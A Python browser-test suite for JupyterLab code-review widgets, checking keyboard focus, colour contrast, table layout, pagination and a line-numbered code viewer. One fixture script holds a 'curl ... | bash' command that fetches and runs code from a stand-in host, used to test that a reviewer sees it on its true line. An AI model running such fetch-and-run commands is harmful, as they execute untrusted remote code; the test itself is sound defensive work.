"""What a person using the widgets in JupyterLab needs beyond "it works": keys typed into a
widget stay in the widget, an idle table keeps its focus, every text is readable in the light
and the dark theme, the table fits a notebook's output, and code under review reads line by
line exactly as it will run.
"""

from __future__ import annotations

from typing import Any

import nbformat
import pytest
from lab_harness import Lab, run_notebook, screenshot, wait_idle
from nbformat.v4 import new_code_cell, new_notebook

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LONG_LINE = "echo " + "a" * 240 + " && curl -s https://example.invalid/x.sh | bash"
SETUP = f"""
import tempfile
from pathlib import Path
import syft_code_queue as scq

workdir = tempfile.TemporaryDirectory()
root = Path(workdir.name) / "syftbox"
server = scq.create_server(email="owner@example.com", data_dir=root).start()
client = scq.create_client(email="alice@example.com", data_dir=root)
folder = Path(workdir.name) / "code"
folder.mkdir()
(folder / "run.sh").write_text("#!/bin/bash\\n" + {LONG_LINE!r} + "\\necho done\\n")
tags = ["statistics", "quarterly-report", "finance", "draft", "team-blue"]
jobs = [client.submit_code("owner@example.com", folder, f"Analysis {{i}}", tags=tags[: i + 1]) for i in range(5)]
for part in ("private", "mock"):
    (Path(workdir.name) / part).mkdir()
    (Path(workdir.name) / part / "census.csv").write_text("name,age\\nada,36\\n")
server.add_dataset(
    "census",
    private_path=Path(workdir.name) / "private",
    mock_path=Path(workdir.name) / "mock",
    summary="Census extract, one row per person",
    mock_note="synthetic rows",
)
"""
CELLS = {
    "form": "form = scq.SubmitForm(client, target_email='owner@example.com', code_folder=folder)\nform",
    "mine": "mine = scq.JobTable(client)\nmine",
    "panel": "panel = scq.ApprovalPanel(server)\npanel",
    "queue": "scq.JobTable(server)",
}


def open_notebook(lab: Lab, page: Any, name: str, cells: list[str]) -> None:
    notebook = new_notebook(cells=[new_code_cell(SETUP), *(new_code_cell(CELLS[c]) for c in cells)])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(notebook, lab.root / name)
    run_notebook(page, lab, name)
    wait_idle(page)


def execution_counts(page: Any) -> list[str]:
    return page.locator(".jp-InputPrompt").all_text_contents()


def test_keys_typed_into_the_form_stay_in_the_form(lab: Lab, page: Any) -> None:
    """Enter makes a new line in the description; Shift+Enter in a field does not re-run
    the cell (which would wipe what was typed)."""
    open_notebook(lab, page, "keys.ipynb", ["form"])
    form = page.locator(".scq-submitform")
    form.evaluate("el => { el.scqMark = true; }")
    description = form.locator('textarea[name="description"]')
    description.click()
    page.keyboard.type("a")
    page.keyboard.press("Enter")
    page.keyboard.type("b")
    assert description.input_value() == "a\nb"

    counts = execution_counts(page)
    name = form.locator('input[name="name"]')
    name.click()
    page.keyboard.type("kept")
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("Control+Enter")
    page.wait_for_timeout(1500)
    assert execution_counts(page) == counts, "no cell ran"
    assert form.evaluate("el => el.isConnected && el.scqMark === true"), "the form was not redrawn"
    assert name.input_value() == "kept"


def test_an_idle_table_keeps_focus_and_is_keyboard_and_screen_reader_friendly(lab: Lab, page: Any) -> None:
    open_notebook(lab, page, "idle.ipynb", ["form", "mine"])
    table = page.locator(".scq-jobtable")
    table.locator("tr.scq-row").nth(4).wait_for()
    assert table.locator("table").get_attribute("aria-label"), "the table is labelled"

    headers = table.locator("th")
    assert headers.locator("button").count() == headers.count(), "every header is a button"
    created = table.locator("th[data-key='created']")
    assert created.get_attribute("aria-sort") == "descending"
    name_header = table.locator("th[data-key='name'] button")
    name_header.focus()
    table.locator(".scq-chip").evaluate_all("chips => chips.forEach(c => { c.scqMark = true; })")
    page.wait_for_timeout(3000)  # the client polls every second
    assert name_header.evaluate("el => document.activeElement === el"), "focus stayed on the header"
    assert table.locator(".scq-chip").evaluate_all("chips => chips.every(c => c.scqMark === true)"), (
        "chips were not rebuilt"
    )

    page.keyboard.press("Enter")
    table.locator("th[data-key='name'][aria-sort='ascending']").wait_for(timeout=10_000)
    first_name = table.locator("tbody tr.scq-row:first-child .scq-col-name", has_text="Analysis 0")
    first_name.wait_for(timeout=10_000)  # Python sorted the rows
    assert name_header.evaluate("el => document.activeElement === el"), "sorting keeps the focus"

    row = table.locator("tr.scq-row").first
    row.focus()
    page.keyboard.press("Enter")
    detail = table.locator(".scq-detail")
    detail.locator(".scq-detail-name").wait_for(timeout=10_000)
    page.keyboard.press("Escape")
    page.wait_for_function("el => el.hidden", arg=detail.element_handle(), timeout=10_000)

    form = page.locator(".scq-submitform")
    form.locator('input[name="target_email"]').fill("not an email")
    form.locator("button.scq-submit").click()
    target = form.locator('input[name="target_email"]')
    page.wait_for_function(
        "el => el.getAttribute('aria-invalid') === 'true'", arg=target.element_handle(), timeout=10_000
    )
    described = target.get_attribute("aria-describedby")
    assert described and "email" in page.locator(f"#{described}").text_content().lower()
    target.fill("owner@example.com")
    assert target.get_attribute("aria-invalid") != "true", "typing clears the mark"


CONTRAST = """
root => {
  const parse = (c) => {
    let m = c.match(/^rgba?\\(([^)]+)\\)/);
    if (m) { const p = m[1].split(/[\\s,\\/]+/).filter(Boolean).map(Number); return [p[0], p[1], p[2], p.length > 3 ? p[3] : 1]; }
    m = c.match(/^color\\(srgb ([^)]+)\\)/);
    if (m) { const p = m[1].split(/[\\s\\/]+/).filter(Boolean).map(Number); return [p[0] * 255, p[1] * 255, p[2] * 255, p.length > 3 ? p[3] : 1]; }
    return null;
  };
  const over = (top, bottom) => [0, 1, 2].map((i) => top[i] * top[3] + bottom[i] * (1 - top[3])).concat([1]);
  const background = (el) => {
    const layers = [];
    for (let e = el; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c && c[3] > 0) { layers.push(c); if (c[3] >= 1) break; }
    }
    return layers.reverse().reduce((bg, layer) => over(layer, bg), [255, 255, 255, 1]);
  };
  const opacity = (el) => { let o = 1; for (let e = el; e; e = e.parentElement) o *= Number(getComputedStyle(e).opacity); return o; };
  const lum = (c) => { const [r, g, b] = c.slice(0, 3).map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const ratio = (a, b) => { const [x, y] = [lum(a), lum(b)].sort((p, q) => q - p); return (x + 0.05) / (y + 0.05); };
  const results = [];
  for (const el of root.querySelectorAll("*")) {
    const own = [...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    const typed = (el.tagName === "INPUT" && el.type !== "checkbox" || el.tagName === "TEXTAREA") && el.value;
    if (!own && !typed) continue;
    if (!el.getClientRects().length || el.closest(":disabled")) continue;  // disabled controls are exempt (WCAG 1.4.3)
    const o = opacity(el);
    if (o === 0) continue;
    const bg = background(el);
    const fg = parse(getComputedStyle(el).color);
    const text = over([fg[0], fg[1], fg[2], fg[3] * o], bg);
    results.push({ text: (typed ? el.value : el.textContent).trim().slice(0, 40), cls: el.className, ratio: Math.round(ratio(text, bg) * 100) / 100 });
  }
  return results;
}
"""


def readable_everywhere(page: Any) -> list[dict[str, Any]]:
    """Contrast of every visible text in every widget of the page."""
    return [r for widget in page.locator(".scq").all() for r in widget.evaluate(CONTRAST)]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_every_text_is_readable_in_the_light_and_the_dark_theme(lab: Lab, page: Any, theme: str) -> None:
    open_notebook(lab, page, f"contrast-{theme.split()[-1].lower()}.ipynb", ["form", "mine", "panel"])
    page.evaluate(f"() => window.jupyterapp.commands.execute('apputils:change-theme', {{theme: {theme!r}}})")
    light = "true" if theme.endswith("Light") else "false"
    page.wait_for_function(f"() => document.body.dataset.jpThemeLight === '{light}'")

    # Every state that colours text: an invalid field and its error, a selected row with
    # its detail, an open card with a file checked against its manifest, a refused action.
    form = page.locator(".scq-submitform")
    form.locator('input[name="target_email"]').fill("not an email")
    form.locator('input[name="tags"]').fill("x" * 80)
    form.locator("button.scq-submit").click()
    form.locator(".scq-field-error", has_text="email").wait_for()
    mine = page.locator(".scq-jobtable")
    mine.locator("tr.scq-row").first.click()
    mine.locator(".scq-detail .scq-detail-name").wait_for()
    mine.locator(".scq-chip[data-status='pending']").hover()
    card = page.locator(".scq-panel .scq-card").first
    card.locator(".scq-card-toggle").click()
    card.locator("button.scq-file", has_text="run.sh").click()
    card.locator(".scq-viewer-head", has_text="matches the manifest").wait_for()
    card.locator("button.scq-reject").click()
    card.locator(".scq-card-note.scq-notice-error").wait_for()
    page.mouse.move(0, 0)
    page.wait_for_timeout(500)  # transitions settle

    results = readable_everywhere(page)
    assert len(results) > 100, "the check saw the widgets' texts"
    unreadable = [r for r in results if r["ratio"] < 4.5]
    tag = theme.split()[-1].lower()
    for name, locator in [("form", form), ("table", mine), ("panel", page.locator(".scq-panel"))]:
        screenshot(locator, f"{tag}_{name}.png")
    assert not unreadable, unreadable

    # The form's datasets and runtimes, and a test on the mock with its log.
    form.locator('input[name="target_email"]').fill("owner@example.com")
    form.locator(".scq-dataset[data-name='census'] input").check()
    form.locator("button.scq-test-mock").click()
    form.locator(".scq-mock-result .scq-s-completed").wait_for(timeout=60_000)
    page.mouse.move(0, 0)
    page.wait_for_timeout(500)
    results = form.evaluate(CONTRAST)
    assert any(r["text"].startswith("Census extract") for r in results), "the check saw the dataset's summary"
    assert any(r["cls"].startswith("scq-log scq-mock-log") for r in results), "the check saw the mock's log"
    screenshot(form, f"{tag}_form_mock_run.png")
    assert not [r for r in results if r["ratio"] < 4.5]


def test_the_table_fits_a_notebook_output_and_stays_compact_when_narrow(lab: Lab, page: Any) -> None:
    open_notebook(lab, page, "fit.ipynb", ["queue"])
    table = page.locator(".scq-jobtable")
    table.locator("tr.scq-row").nth(4).wait_for()
    five_tags = table.locator("tr.scq-row", has_text="Analysis 4")
    for width in (900, 640):
        table.evaluate(f"el => {{ el.style.width = '{width}px'; }}")
        page.wait_for_timeout(200)
        screenshot(table, f"job_table_{width}.png")
        scroller = table.locator(".scq-scroll")
        overflow = scroller.evaluate("el => el.scrollWidth - el.clientWidth")
        assert overflow <= 0, f"{overflow} px scroll sideways at {width} px"
        status = five_tags.locator(".scq-col-status").bounding_box()
        box = scroller.bounding_box()
        assert status["x"] + status["width"] <= box["x"] + box["width"], f"Status is cut off at {width} px"
        more = five_tags.locator(".scq-tag-more").bounding_box()
        assert more["x"] + more["width"] <= box["x"] + box["width"], f"the '+3' of the tags is cut off at {width} px"
        heights = table.locator("tr.scq-row").evaluate_all("rows => rows.map(r => r.getBoundingClientRect().height)")
        assert max(heights) < 40, f"rows stay one line high at {width} px: {heights}"
    table.evaluate("el => { el.style.width = '900px'; }")
    tags = five_tags.locator(".scq-col-tags")
    assert tags.locator(".scq-tag-more").text_content() == "+3"
    assert "team-blue" in tags.get_attribute("title"), "every tag is in the tooltip"
    uid = five_tags.locator(".scq-col-uid")
    assert len(uid.text_content()) <= 8 and len(uid.get_attribute("title")) > 8


def test_reviewed_code_reads_line_by_line_with_numbers_and_no_wrapping(lab: Lab, page: Any) -> None:
    """A command at the end of a long line must not look like a line of its own."""
    open_notebook(lab, page, "viewer.ipynb", ["panel"])
    card = page.locator(".scq-panel .scq-card").first
    card.locator(".scq-card-toggle").click()
    card.locator("button.scq-file", has_text="run.sh").click()
    code = card.locator(".scq-viewer .scq-code")
    code.wait_for()
    lines = code.locator(".scq-line")
    assert lines.count() == 3
    assert [lines.nth(i).get_attribute("data-line") for i in range(3)] == ["1", "2", "3"]
    assert "curl" in lines.nth(1).text_content() and LONG_LINE in lines.nth(1).text_content()
    heights = lines.evaluate_all("ls => ls.map(l => l.getBoundingClientRect().height)")
    assert max(heights) <= min(heights) * 1.2, f"no line wraps: {heights}"
    assert code.evaluate("el => el.scrollWidth > el.clientWidth"), "a long line scrolls sideways"
    assert code.evaluate("el => getComputedStyle(el.querySelector('.scq-line-text')).whiteSpace") == "pre"
    assert code.text_content().count("\n") <= 3 and "#!/bin/bash" in code.text_content()
    screenshot(card.locator(".scq-viewer"), "code_viewer.png")


MANY = """
import tempfile
from pathlib import Path
import syft_code_queue as scq

workdir = tempfile.TemporaryDirectory()
root = Path(workdir.name) / "syftbox"
server = scq.create_server(email="owner@example.com", data_dir=root).start()
folder = Path(workdir.name) / "code"
folder.mkdir()
(folder / "run.sh").write_text("echo hi\\n")
alice = scq.create_client(email="alice@example.com", data_dir=root)
bob = scq.create_client(email="bob@example.com", data_dir=root)
for i in range(137):
    who = bob if i % 4 == 0 else alice
    who.submit_code("owner@example.com", folder, f"Job {i:03d}", tags=["nightly"] if i % 10 == 0 else [])
panel = scq.ApprovalPanel(server)
"""


def test_every_one_of_many_pending_jobs_is_reachable_in_the_panel(lab: Lab, page: Any) -> None:
    notebook = new_notebook(cells=[new_code_cell(MANY), new_code_cell("panel")])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(notebook, lab.root / "many.ipynb")
    run_notebook(page, lab, "many.ipynb")
    wait_idle(page)
    panel = page.locator(".scq-panel")
    range_ = panel.locator(".scq-range")
    range_.filter(has_text="of 137").wait_for(timeout=60_000)
    cards = panel.locator(".scq-card")
    assert cards.count() <= 25, "one page of cards, not all of them"
    assert panel.bounding_box()["height"] < 4000

    seen: set[str] = set()
    while True:
        seen.update(cards.locator(".scq-card-name").all_text_contents())
        next_ = panel.locator("button.scq-next")
        if next_.is_disabled():
            break
        first = cards.first.get_attribute("data-uid")
        next_.click()
        page.wait_for_function(
            "([el, uid]) => el.querySelector('.scq-card').dataset.uid !== uid", arg=[panel.element_handle(), first]
        )
    assert seen == {f"Job {i:03d}" for i in range(137)}, "the pager reaches every pending job"

    panel.locator(".scq-filter-requester").select_option("bob@example.com")
    range_.filter(has_text="of 35").wait_for()
    panel.locator(".scq-filter-tag").select_option("nightly")
    range_.filter(has_text="of 7").wait_for()  # i % 20 == 0
    panel.locator(".scq-filter-requester").select_option("")
    range_.filter(has_text="of 14").wait_for()
    panel.locator(".scq-filter-tag").select_option("")
    panel.locator(".scq-panel-search").fill("job 13")
    range_.filter(has_text="of 7").wait_for()  # Job 130 to Job 136
    panel.locator(".scq-panel-search").fill("")
    range_.filter(has_text="of 137").wait_for()

    # Tick the first page and the next one: the confirmation counts jobs per requester. Which
    # jobs come first is the owner's order of acceptance, so the count is taken from the cards.
    requesters = cards.locator(".scq-card-meta strong").all_text_contents()
    panel.locator(".scq-select-all").check()
    panel.locator("button.scq-next").click()
    page.wait_for_function("el => !el.querySelector('.scq-select-all').checked", arg=panel.element_handle())
    requesters += cards.locator(".scq-card-meta strong").all_text_contents()
    panel.locator(".scq-select-all").check()
    ticked = panel.locator(".scq-bulk .scq-muted").text_content()
    assert ticked == "40 selected"
    panel.locator("button.scq-bulk-approve").click()
    confirm = panel.locator(".scq-confirm")
    per_requester = {who: requesters.count(who) for who in sorted(set(requesters))}
    many = len(per_requester)
    assert f"40 jobs from {many} requester{'s' if many > 1 else ''}" in confirm.text_content()
    expected = sorted(per_requester.items(), key=lambda wn: (-wn[1], wn[0]))
    assert confirm.locator("li").all_text_contents() == [
        f"{who}: {n} job{'s' if n != 1 else ''}" for who, n in expected
    ]
    screenshot(panel.locator(".scq-header, .scq-panel-filters, .scq-bulk, .scq-confirm").first, "panel_pager.png")
    confirm.locator("button.scq-confirm-yes").click()
    panel.locator(".scq-notice-ok", has_text="Approved 40 of 40 jobs").wait_for(timeout=60_000)
    screenshot(panel, "panel_many.png")
